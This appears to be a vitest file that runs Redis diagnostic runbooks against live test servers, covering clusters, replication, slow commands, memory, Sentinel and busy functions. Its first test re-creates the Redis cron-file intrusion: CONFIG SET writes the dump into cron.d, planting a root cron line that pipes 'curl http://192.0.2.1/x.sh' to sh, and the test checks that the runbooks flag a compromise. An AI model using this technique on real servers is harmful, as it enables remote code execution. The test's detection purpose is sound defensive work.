import { execFile, spawn } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { connect, type Socket } from "node:net";
import { join } from "node:path";
import { promisify } from "node:util";
import type { Redis } from "ioredis";
import { afterAll, describe, expect, it } from "vitest";
import { serviceHealth } from "../../../runbooks/health/service-health.ts";
import { redisConnectivity } from "../../../runbooks/redis/redis-connectivity.ts";
import { redisMemory } from "../../../runbooks/redis/redis-memory.ts";
import { freePort } from "../../helpers/ports.ts";
import { whyNoRedis } from "../../helpers/redis-server.ts";
import { until } from "../../helpers/until.ts";
import { bench, diagnose, endAll, endings, ids, open, start, words } from "./redis-bench.ts";

// Each test has servers of its own, and waits for their rates: side by side.
afterAll(endAll);

const MIB = 1024 ** 2;
const execute = promisify(execFile);
describe.skipIf(whyNoRedis() !== undefined)("Redis cases from the field", { concurrent: true }, () => {
  it.skipIf(process.getuid?.() !== 0)(
    "a save that fails because strangers moved it is an intrusion, in every runbook",
    async () => {
      const server = await start("--save", "3600", "1", "--enable-protected-configs", "yes");
      const app = open(server.url);
      const cron = join(server.folder, "cron.d");
      mkdirSync(join(cron, "root"), { recursive: true }); // a folder of that name: not even root saves over it
      await app.config("SET", "dir", cron);
      await app.call("CONFIG", "SET", "dbfilename", "root");
      await app.set("backup1", "\n*/2 * * * * root curl -fsSL http://192.0.2.1/x.sh | sh\n");
      await app.call("BGSAVE");
      await until(async () => (await app.info("persistence")).includes("rdb_last_bgsave_status:err"));
      for (const runbook of [redisConnectivity, redisMemory, serviceHealth]) {
        const run = await diagnose(runbook, server.url, "cache");
        const said = run.findings.find(({ title }) => title.includes(`broken into: dir is ${cron}`));
        expect(said?.severity).toBe("critical");
        expect(words(run)).toContain("take it off the network first");
        expect(words(run)).not.toMatch(/Then BGSAVE|Repair saving|without write permission|192\.0\.2\.1/);
      }
      const run = await diagnose(redisConnectivity, server.url);
      expect(run.findings[0]?.id).toBe("compromised");
      expect(run.findings[0]?.because).toContain("backup1 holds a line for cron or an SSH key");
      expect(run.findings.every(({ remedies }) => remedies.every((key) => key === "isolate"))).toBe(true);
    },
  );

  it("a node of a healthy cluster is healthy, a cluster with a hole is not", async () => {
    const nodes = await Promise.all(
      [1, 2, 3].map((n) => start("--cluster-enabled", "yes", "--cluster-config-file", `nodes-${n}.conf`)),
    );
    const ports = nodes.map(({ port }) => `127.0.0.1:${port}`);
    await execute("redis-cli", ["--cluster", "create", ...ports, "--cluster-yes"]);
    for (const { url } of nodes)
      await until(async () => String(await open(url).call("CLUSTER", "INFO")).includes("cluster_state:ok"));
    for (const { url } of nodes) {
      const run = await diagnose(redisConnectivity, url);
      expect(ids(run)).toEqual(["info cluster-node"]);
      expect(run.findings[0]?.title).toBe(
        "This is one node of a healthy cluster: 3 masters, all 16384 slots served",
      );
      expect(ids(await diagnose(redisMemory, url))).toEqual([]);
      expect(ids(await diagnose(serviceHealth, url))).toEqual([]);
    }
    const [first] = nodes;
    const slots = (await open(first?.url ?? "").call("CLUSTER", "SLOTS")) as [number, number][];
    await open(first?.url ?? "").call("CLUSTER", "DELSLOTS", String(slots[0]?.[0] ?? 0));
    const holed = await diagnose(redisConnectivity, first?.url ?? "");
    expect(holed.findings[0]?.id).toBe("cluster");
    expect(holed.findings[0]?.severity).toBe("critical");
    expect(holed.findings[0]?.because).toContain("Slots assigned to no node at all: 1 (");
  });

  it("what a managed service leaves out is said with what gives it, and is no fault", async () => {
    const off = ["CONFIG", "SLOWLOG", "CLIENT", "LATENCY", "MODULE"].flatMap((name) => [
      "--rename-command",
      name,
      "",
    ]);
    const server = await start(...off);
    for (const runbook of [redisConnectivity, redisMemory]) {
      const run = await diagnose(runbook, server.url);
      expect(ids(run)).toEqual(["info could-not-look"]);
    }
    const run = await diagnose(redisConnectivity, server.url);
    expect(words(run)).toContain("SLOWLOG");
    expect(words(run)).toContain("allows slowlog|get");
    const blind = await start(...off, "--rename-command", "INFO", "");
    for (const runbook of [redisConnectivity, redisMemory]) {
      const none = await diagnose(runbook, blind.url);
      expect(ids(none)).toEqual(["info could-not-look"]);
      expect(words(none)).toContain("allows info");
    }
    expect(ids(await diagnose(serviceHealth, blind.url))).toEqual(["info could-not-look"]);
  });

  it("copies without end are seen on the master and on the replica", async () => {
    const master = await start(
      "--client-output-buffer-limit",
      "replica 2mb 1mb 5",
      "--repl-backlog-size",
      "1mb",
      "--enable-debug-command",
      "yes",
      "--repl-diskless-sync-delay",
      "0",
    );
    const app = open(master.url);
    await app.call("DEBUG", "POPULATE", "200000", "k", "300");
    const replica = await start("--replicaof", "127.0.0.1", String(master.port));
    const big = Buffer.alloc(3_000_000, "x");
    const writing = setInterval(() => app.set("big", big).catch(() => {}), 40);
    endings.push(() => clearInterval(writing));
    await until(async () => Number(/sync_full:(\d+)/.exec(await app.info("stats"))?.[1]) >= 4);
    const onMaster = await diagnose(redisConnectivity, master.url);
    expect(onMaster.finding("copies-again").title).toMatch(
      /^Replicas copy everything again and again: \d+ whole copies/,
    );
    expect(onMaster.finding("copies-again").because).toContain("beyond 2.0 MiB, or 1.0 MiB for 5 s");
    const onReplica = await diagnose(redisConnectivity, replica.url);
    expect(onReplica.findings[0]?.id).toBe("master-link-down");
    expect(onReplica.findings[0]?.because).not.toContain("silent for 0 ms");
    expect(words(onReplica)).not.toMatch(/REPLICAOF NO ONE|promote/);
    // The healthy twin: a first copy is no loop.
    const calm = await start();
    const follower = await start("--replicaof", "127.0.0.1", String(calm.port));
    await until(async () => (await open(follower.url).info("replication")).includes("master_link_status:up"));
    expect(ids(await diagnose(redisConnectivity, calm.url))).toEqual([]);
  });

  it("many calls that are short each, but of all keys", async () => {
    const server = await start("--enable-debug-command", "yes", "--slowlog-log-slower-than", "1000");
    const app = open(server.url);
    await app.call("DEBUG", "POPULATE", "30000", "cdn", "5");
    const asking = setInterval(() => app.keys("cdn:log:job:*").catch(() => {}), 60);
    endings.push(() => clearInterval(asking));
    await until(async () => Number(await app.call("SLOWLOG", "LEN")) >= 8);
    const run = await diagnose(redisConnectivity, server.url);
    expect(ids(run)).toEqual(["warning slow-commands"]);
    expect(run.findings[0]?.title).toMatch(/^KEYS takes [\d.]+ % of Redis's time: \d+ calls?, /);
    expect(run.advice("findSlowCommands")).toContain("KEYS: SCAN in small steps");
  });

  it("the role is that of the connection that was chosen", async () => {
    const cache = await start();
    const jobs = await start("--maxmemory", "2mb");
    await fill(open(jobs.url), "bull:mail");
    const both = {
      cache: { kind: "redis", url: cache.url, role: "cache" },
      jobs: { kind: "redis", url: jobs.url, role: "queue" },
    };
    const run = await bench(both, { redis: "jobs" }).diagnose(redisMemory);
    expect(run.finding("oom").remedies).toEqual(["makeRoom"]);
    expect(run.advice("makeRoom")).toContain("The role of jobs is queue");
  });

  it.each(["queue", "mixed"])("nothing that loses jobs is advised for role %s", async (role) => {
    const server = await start("--maxmemory", "2mb");
    const app = open(server.url);
    await fill(app, "bull:mail");
    for (const runbook of [redisMemory, redisConnectivity]) {
      const run = await diagnose(runbook, server.url, role);
      expect(run.findings[0]?.severity).toBe("critical");
      expect(words(run)).not.toMatch(
        /UNLINK|a TTL,|give them a TTL|LTRIM|XTRIM|FLUSH|allkeys|setPolicy|NOSAVE|the cache evict/i,
      );
    }
  });

  it("what buffers take is not answered by eviction, and eviction is refused", async () => {
    const server = await start("--maxmemory", "64mb");
    const app = open(server.url);
    await app.set("blob", "x".repeat(MIB));
    const sockets: Socket[] = [];
    endings.push(() => sockets.map((socket) => socket.destroy()));
    const inMemory = async (name: string) =>
      Number(new RegExp(`${name}:(\\d+)`).exec(await app.info("memory"))?.[1]);
    while ((await inMemory("used_memory")) < 64 * MIB) {
      const socket = connect(server.port, "127.0.0.1");
      sockets.push(socket.on("error", () => {}).pause());
      socket.write("GET blob\r\n".repeat(8));
      await app.ping();
    }
    // Redis counts what its clients hold in its own rounds, once a second.
    await until(async () => (await inMemory("mem_clients_normal")) > 40 * MIB);
    const run = await diagnose(redisMemory, server.url, "cache");
    expect(run.findings[0]?.id).toBe("oom");
    expect(run.findings[0]?.title).toContain("are buffers of clients");
    expect(run.findings[0]?.remedies).toEqual(["slimClients"]);
    expect(run.advice("slimClients")).toMatch(
      /^127\.0\.0\.1 \(normal, \d+ connections, last command get\) holds \d+(\.\d)? MiB\./,
    );
    expect((await run.apply("setPolicy")).previews[0]?.refused).toContain(
      "would empty the cache and not help",
    );
  });

  it("a Sentinel is not the server it watches", async () => {
    const master = await start();
    const folder = join(master.folder, "sentinel");
    mkdirSync(folder);
    const config = join(folder, "sentinel.conf");
    const port = await freePort();
    writeFileSync(config, `port ${port}\nsentinel monitor mymaster 127.0.0.1 ${master.port} 1\n`);
    const child = spawn("redis-server", [config, "--sentinel", "--dir", folder], { stdio: "ignore" });
    endings.push(() => child.kill("SIGKILL"));
    const url = `redis://127.0.0.1:${port}`;
    await until(
      async () =>
        (await open(url)
          .ping()
          .catch(() => "")) === "PONG",
    );
    for (const runbook of [redisConnectivity, redisMemory]) {
      const run = await diagnose(runbook, url);
      expect(run.findings[0]?.title).toBe("The URL leads to a Sentinel, not to the Redis it watches");
      expect(run.findings[0]?.because).toContain(`127.0.0.1:${master.port}`);
    }
  });

  it("an HTTP server is said to be one", async () => {
    const server = createServer((_request, response) => response.end("ok"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    endings.push(() => server.close());
    const run = await diagnose(
      redisConnectivity,
      `redis://127.0.0.1:${(server.address() as AddressInfo).port}`,
    );
    expect(ids(run)).toEqual(["critical not-redis"]);
    expect(run.findings[0]?.title).toBe("What answers on that port is not Redis but an HTTP server");
  });

  it("a function that holds the server is ended as one", async () => {
    const server = await start("--busy-reply-threshold", "100");
    const app = open(server.url);
    await app.call(
      "FUNCTION",
      "LOAD",
      "#!lua name=l\nredis.register_function('spin', function() while true do end end)",
    );
    const ended = open(server.url)
      .call("FCALL", "spin", "0")
      .catch((error: Error) => error.message);
    const run = await until(async () => {
      const made = await diagnose(redisConnectivity, server.url);
      return made.findings.some(({ id }) => id === "busy") ? made : undefined;
    });
    expect(run.findings[0]?.title).toBe("Redis is busy running a function");
    expect((await run.apply("killScript")).holds).toBe(true);
    expect(await ended).toContain("killed by user");
  });
});

async function fill(app: Redis, prefix: string): Promise<void> {
  const value = "x".repeat(10_000);
  for (let n = 0; ; n++) {
    const isFull = await app.rpush(`${prefix}:${n}`, value).then(
      () => false,
      () => true,
    );
    if (isFull) return;
  }
}
